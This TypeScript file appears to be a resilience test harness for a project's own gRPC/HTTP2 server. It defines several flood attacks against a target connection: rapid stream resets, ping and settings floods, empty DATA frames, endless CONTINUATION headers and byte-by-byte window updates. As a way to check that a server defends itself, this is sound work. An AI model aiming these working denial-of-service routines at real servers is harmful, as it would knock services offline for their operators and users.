import { once } from "node:events";
import {
  connectionStart,
  data,
  fields,
  frame,
  openRequest,
  reset,
  setting,
  windowUpdate,
} from "../../../packages/server/src/testing/http2-frames.ts";
import { type Attack, Connections, callHeaders, type Target } from "./attack.ts";

const frames = 20_000;
/** Written at once. */
const atATime = 1000;

/** Sends `next(0)`, `next(1)` … on one connection, as fast as they are taken. */
async function flood(
  { grpcUrl }: Target,
  holdMs: number,
  next: (i: number) => Buffer,
  { first = [], readsAnswers = false }: { readonly first?: readonly Buffer[]; readonly readsAnswers?: boolean } = {},
): Promise<void> {
  using sockets = new Connections();
  const socket = sockets.open(grpcUrl, readsAnswers);
  socket.write(Buffer.concat([connectionStart, ...first]));
  const endMs = performance.now() + holdMs;
  for (let i = 0; i < frames && !socket.destroyed && performance.now() < endMs; i += atATime) {
    const signal = AbortSignal.timeout(Math.max(1, Math.ceil(endMs - performance.now())));
    const isTaken = socket.write(Buffer.concat(Array.from({ length: atATime }, (_, at) => next(i + at))));
    // A server that reads no more, or has cut the connection, has defended itself.
    if (!isTaken)
      await Promise.race([once(socket, "drain", { signal }), once(socket, "close", { signal })]).catch(() => {});
  }
  await sockets.hold(Math.max(0, endMs - performance.now()));
}

/** Calls that are reset as soon as they are made. */
export const rapidReset: Attack = (target, holdMs) => {
  const headers = callHeaders(target, "Get");
  const next = (i: number): Buffer => Buffer.concat([openRequest(1 + 2 * i, headers), reset(1 + 2 * i, 8)]);
  return flood(target, holdMs, next, { readsAnswers: true });
};

/** Whole calls that are reset while the server works on them. */
export const resetCalls: Attack = (target, holdMs) => {
  const headers = callHeaders(target, "Get");
  const message = Buffer.from([0, 0, 0, 0, 3, 10, 1, 97]);
  const next = (i: number): Buffer => {
    const stream = 1 + 2 * i;
    return Buffer.concat([openRequest(stream, headers), data(stream, message, true), reset(stream, 8)]);
  };
  return flood(target, holdMs, next, { readsAnswers: true });
};

/** Frames that each want an answer, from a client that reads none. */
export const pings: Attack = (target, holdMs) => flood(target, holdMs, () => frame("ping", 0, 0, Buffer.alloc(8)));

export const settings: Attack = (target, holdMs) => flood(target, holdMs, (i) => setting(4, 1000 + (i % 1000)));

/** Frames that say nothing and have no end. */
export const emptyFrames: Attack = (target, holdMs) => {
  const first = [openRequest(1, callHeaders(target, "Put"))];
  return flood(target, holdMs, () => data(1, new Uint8Array()), { first });
};

/** Headers that never end. */
export const continuations: Attack = (target, holdMs) => {
  const first = [frame("headers", 0, 1, fields(callHeaders(target, "Put")))];
  const more = fields({ "x-more": "x".repeat(100) });
  return flood(target, holdMs, () => frame("continuation", 0, 1, more), { first });
};

/** A window that opens byte by byte. */
export const windows: Attack = (target, holdMs) => {
  const first = [setting(4, 0), openRequest(1, callHeaders(target, "Watch"))];
  return flood(target, holdMs, () => windowUpdate(1, 1), { first });
};
